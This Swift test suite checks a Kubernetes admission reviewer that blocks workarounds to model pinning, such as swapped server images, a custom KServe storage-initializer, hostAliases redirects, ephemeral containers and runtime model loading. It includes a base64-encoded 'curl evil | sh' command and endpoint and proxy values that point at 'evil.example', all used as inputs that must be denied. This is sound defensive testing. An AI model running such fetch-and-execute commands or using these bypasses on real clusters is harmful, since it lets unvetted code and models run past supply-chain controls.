import KubernetesModel
import ModelReferences
import PolicyEngine
import Reviewer
import Testing

/// Ways around the gate, each refused, beside the smallest honest thing that looks like it, admitted.
@Suite("Ways around the gate")
struct BypassesTests {
    private static let commit = "27dcfa74d334bc871f3234de431e71c6eeba5dd6"
    private static let sha = String(repeating: "a", count: 64)
    private static let server = "vllm/vllm-openai:v0.8.4@sha256:\(sha)"
    private static let pinnedArgs = "[--model=acme/fraud, --revision=\(commit), --tokenizer-revision=\(commit)]"

    /// A workload of vLLM with these parts exchanged.
    private func workload(
        _ kind: String = "apps/v1 Deployment", image: String = server, args: String = pinnedArgs, more: String = "",
        spec: String = "", annotations: String = "{}"
    ) throws -> Node {
        let parts = kind.split(separator: " ")
        let pod = """
            {containers: [{name: vllm, image: "\(image)", args: \(args)\(more)}]\(spec)}
            """
        let body = parts[1] == "Pod" ? pod : "{template: {metadata: {annotations: \(annotations)}, spec: \(pod)}}"
        return try object(
            "{apiVersion: \(parts[0]), kind: \(parts[1]), metadata: {name: fraud, namespace: ml}, spec: \(body)}")
    }

    private func verdict(_ object: Node, _ pinnedModel: String = "{}", match: String = "{}") throws -> Verdict {
        try reviewer(policy(match: match, pinnedModel: pinnedModel)).verdict(request(object))
    }

    @Test("an image that ignores its arguments shows one model and loads another")
    func untrustedConsumer() throws {
        let rule = "{serverImages: [vllm/vllm-openai]}"
        #expect(try verdict(workload(image: "evil/vllm@sha256:\(Self.sha)"), rule) == .denied)
        #expect(try verdict(workload(image: "vllm/vllm-openai:latest"), rule) == .denied)
        #expect(try verdict(workload(), rule) == .allowed)
    }

    @Test("a storage-initializer of one's own makes KServe skip its own")
    func ownInitializer() throws {
        func service(_ image: String) throws -> Node {
            try object(
                """
                apiVersion: serving.kserve.io/v1beta1
                kind: InferenceService
                metadata: {name: fraud, namespace: ml}
                spec:
                  predictor:
                    initContainers: [{name: storage-initializer, image: "\(image)"}]
                    model: {modelFormat: {name: huggingface}, storageUri: "hf://acme/fraud:\(Self.commit)"}
                """)
        }
        let rule = "{serverImages: [kserve/storage-initializer]}"
        #expect(try verdict(service("evil/init@sha256:\(Self.sha)"), rule) == .denied)
        #expect(try verdict(service("kserve/storage-initializer@sha256:\(Self.sha)"), rule) == .allowed)
    }

    @Test("a model baked into an image that nobody listed shows no reference at all")
    func noReference() throws {
        let rule = "{unreferenced: Deny, nonModelImages: ['docker.io/library/*']}"
        #expect(try verdict(workload(image: "evil/scorer:1", args: "[]"), rule) == .denied)
        #expect(try verdict(workload(image: "nginx:1.27", args: "[]"), rule) == .allowed)
    }

    @Test("a script that nobody can read may load anything")
    func unreadableCommand() throws {
        let rule = "{unreferenced: Deny, nonModelImages: ['docker.io/library/*']}"
        let encoded = ", command: [sh, -c, 'echo Y3VybCBldmls | base64 -d | sh']"
        #expect(try verdict(workload(image: "alpine:3", args: "[]", more: encoded), rule) == .denied)
        let plain = ", command: [sh, -c, 'echo hello']"
        #expect(try verdict(workload(image: "alpine:3", args: "[]", more: plain), rule) == .allowed)
    }

    @Test(
        "the same URI is read from another server",
        arguments: [
            ", env: [{name: HF_ENDPOINT, value: 'https://evil.example'}]",
            ", env: [{name: HTTPS_PROXY, value: 'http://evil.example:3128'}]",
        ])
    func otherServer(environment: String) throws {
        let rule = "{sources: [{uri: 'hf://acme/', endpoint: ['https://hub.corp', 'http://proxy.corp:3128']}]}"
        #expect(try verdict(workload(more: environment), rule) == .denied)
        #expect(try verdict(workload(more: environment)) == .denied)
        let listed =
            environment.contains("HF_")
            ? ", env: [{name: HF_ENDPOINT, value: 'https://hub.corp/'}]"
            : ", env: [{name: HTTPS_PROXY, value: 'http://proxy.corp:3128'}]"
        #expect(try verdict(workload(more: listed), rule) == .allowed)
        #expect(try verdict(workload(), rule) == .allowed)
    }

    @Test("host names are turned to another server inside the pod")
    func hostAliases() throws {
        let aliases = ", hostAliases: [{ip: 10.0.0.1, hostnames: [huggingface.co]}]"
        #expect(try verdict(workload(spec: aliases)) == .denied)
        #expect(try verdict(workload(spec: ", priorityClassName: high")) == .allowed)
    }

    @Test("the references stay and what reads them changes")
    func sameReferencesOtherMeaning() throws {
        let reviewer = try reviewer(policy(pinnedModel: "{serverImages: [vllm/vllm-openai]}"))
        let before = try workload(image: "vllm/vllm-openai:v0.8.4")
        func update(_ object: Node) throws -> Verdict { try reviewer.verdict(request(object, old: before)) }
        #expect(try update(before) == .allowed)
        #expect(try update(workload(image: "evil/vllm:v0.8.4")) == .denied)
        #expect(
            try update(workload(image: "vllm/vllm-openai:v0.8.4", spec: ", serviceAccountName: other")) == .denied)
        #expect(
            try update(workload(image: "vllm/vllm-openai:v0.8.4", annotations: "{pedigree.dev/dataset: x}")) == .denied)
        #expect(try update(workload(image: "vllm/vllm-openai:v0.8.4", annotations: "{team: risk}")) == .allowed)
    }

    @Test(
        "a workload of a kind that the policy does not list is stopped at its pod at the latest",
        arguments: ["apps/v1 StatefulSet", "batch/v1 Job", "v1 Pod", "corp.example/v1 Server"])
    func narrowKinds(kind: String) throws {
        let moving = try workload(kind, args: "[--model=acme/fraud]")
        let narrow = "{kinds: [InferenceService.serving.kserve.io]}"
        #expect(try verdict(moving) == .denied)
        #expect(try verdict(moving, match: narrow) == (kind == "v1 Pod" ? .denied : .allowed))
        #expect(try verdict(workload(kind), match: narrow) == .allowed)
    }

    @Test("a server that loads models at run time is no pinned model")
    func runtimeLoading() throws {
        func triton(_ mode: String) throws -> Node {
            try workload(
                image: "nvcr.io/nvidia/tritonserver@sha256:\(Self.sha)",
                args:
                    "[tritonserver, '--model-repository=s3://ml-models-prod/fraud/v47/', '--model-control-mode=\(mode)']"
            )
        }
        let rule = "{allow: [pinned, versioned]}"
        #expect(try verdict(triton("explicit"), rule) == .denied)
        #expect(try verdict(triton("poll"), rule) == .denied)
        #expect(try verdict(triton("none"), rule) == .allowed)
        let flag = ", env: [{name: VLLM_ALLOW_RUNTIME_LORA_UPDATING, value: 'True'}]"
        #expect(try verdict(workload(more: flag)) == .denied)
    }

    @Test("a model that comes from a ConfigMap or a Secret is known to nobody")
    func environmentFromElsewhere() throws {
        let variable = ", env: [{name: MODEL, valueFrom: {configMapKeyRef: {name: models, key: model}}}]"
        let args = "[--model=$(MODEL), --revision=\(Self.commit)]"
        #expect(try verdict(workload(args: args, more: variable)) == .denied)
        let literal = ", env: [{name: MODEL, value: acme/fraud}]"
        #expect(try verdict(workload(args: args, more: literal)) == .allowed)
    }

    @Test("a bare pod asks KServe for a download by annotation")
    func podAnnotation() throws {
        func pod(_ uri: String) throws -> Node {
            try object(
                """
                apiVersion: v1
                kind: Pod
                metadata:
                  name: fraud
                  namespace: ml
                  annotations: {internal.serving.kserve.io/storage-initializer-sourceuri: "\(uri)"}
                spec: {containers: [{name: kserve-container, image: "kserve/sklearnserver@sha256:\(Self.sha)"}]}
                """)
        }
        #expect(try verdict(pod("hf://acme/fraud")) == .denied)
        #expect(try verdict(pod("hf://acme/fraud:\(Self.commit)")) == .allowed)
    }

    @Test("an ephemeral container brings a model into a pod that runs")
    func ephemeralContainer() throws {
        let before = try workload("v1 Pod")
        let after = try workload(
            "v1 Pod",
            spec: ", ephemeralContainers: [{name: debug, image: vllm/vllm-openai, args: [--model=evil/model]}]")
        let honest = try workload("v1 Pod", spec: ", ephemeralContainers: [{name: debug, image: busybox}]")
        let reviewer = try reviewer(policy(pinnedModel: "{}"))
        func update(_ object: Node) throws -> Verdict {
            try reviewer.verdict(request(object, old: before, subresource: "ephemeralcontainers"))
        }
        #expect(try update(after) == .denied)
        #expect(try update(honest) == .allowed)
    }
}
